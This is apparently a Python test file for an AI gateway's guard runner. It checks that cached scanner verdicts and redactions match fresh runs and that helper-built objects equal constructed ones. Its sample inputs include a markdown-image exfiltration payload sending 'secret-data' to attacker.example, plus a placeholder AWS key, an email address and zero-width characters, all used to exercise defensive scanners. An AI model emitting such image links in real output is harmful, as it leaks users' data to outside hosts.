"""A runner that takes over its last decisions when the scanners return the same results
decides as a runner seeing each text for the first time: the same action, verdicts and
redacted segments, whatever came before. Objects the runner makes with `assembled` equal
those their constructors make."""

from __future__ import annotations

import asyncio
import dataclasses
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sai.gateway.config import GuardPolicy
from sai.gateway.guarding import GuardDecision, GuardOutcome, GuardRunner
from sai.guards import Action, Direction, GuardContext
from sai.guards.base import assembled

POLICY = GuardPolicy(
    input=("invisible", "secrets", "pii"),
    output=("invisible", "leakage", "exfiltration", "secrets", "pii"),
    review_on=frozenset({"exfiltration"}),
)
TEXTS = st.sampled_from(
    [
        "For ticket 7, what is the population of Paris?",
        "write to jane.doe@example.com please",
        "my key is AKIAIOSFODNN7EXAMPLE ok",
        "![x](https://attacker.example/c?d=secret-data)",
        "hidden\u200b\u200b\u200bthere",
        "alice",
        "",
    ]
)


Outcome = tuple[Action, tuple[GuardDecision, ...], tuple[str, ...], str]


def outcome(runner: GuardRunner, segments: list[str], direction: Direction) -> Outcome:
    found = asyncio.run(
        runner.check_request(segments, direction, "user", "chat", "Be brief.", None)
    )
    return found.action, found.verdicts, found.segments, found.state


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(st.lists(TEXTS, min_size=1, max_size=3), st.booleans()), max_size=6))
def test_reused_decisions_equal_fresh_ones(calls: list[tuple[list[str], bool]]) -> None:
    runner = GuardRunner(POLICY, threads=1)
    try:
        for segments, output in calls:
            direction = Direction.output if output else Direction.input
            fresh = GuardRunner(POLICY, threads=1)
            try:
                assert outcome(runner, segments, direction) == outcome(fresh, segments, direction)
            finally:
                fresh.close()
    finally:
        runner.close()


def test_a_clean_text_after_a_finding_is_allowed_again() -> None:
    runner = GuardRunner(POLICY, threads=1)
    try:
        clean = ["For ticket 7, what is the population of Paris?"]
        assert outcome(runner, clean, Direction.output)[0] is Action.allow
        found = outcome(runner, ["my key is AKIAIOSFODNN7EXAMPLE ok"], Direction.output)
        assert found[0] is Action.redact
        assert found[2] == ("my key is [REDACTED:aws-access-key] ok",)
        again = outcome(runner, clean, Direction.output)
        assert again[0] is Action.allow
        assert again[2] == tuple(clean)
    finally:
        runner.close()


def test_assembled_objects_equal_constructed_ones() -> None:
    fields: dict[str, Any] = {
        "direction": Direction.output,
        "role": "user",
        "route": "chat",
        "system_prompt": "Be brief.",
        "canary": None,
        "data": ((0, 3),),
        "fields": ((0, 3), (4, 9)),
        "units": (),
        "memo": None,
    }
    made = assembled(GuardContext, **fields)
    assert made == GuardContext(**fields)
    assert vars(made) == vars(GuardContext(**fields))
    with pytest.raises(dataclasses.FrozenInstanceError):
        made.role = "admin"  # type: ignore[misc]
    outcome = assembled(GuardOutcome, action=Action.allow, verdicts=(), segments=("a",))
    assert outcome == GuardOutcome(Action.allow, (), ("a",))
    assert outcome.state == "allow"
    decision: dict[str, Any] = {"scanner": "pii", "direction": "output", "action": "redact"}
    decision |= {"score_bp": 10_000, "reason": "1 item", "state": "ran", "spans": ((0, 4, "a"),)}
    built = GuardDecision(**decision)
    assert assembled(GuardDecision, **decision) == built
    assert assembled(GuardDecision, **decision).as_json() == built.as_json()
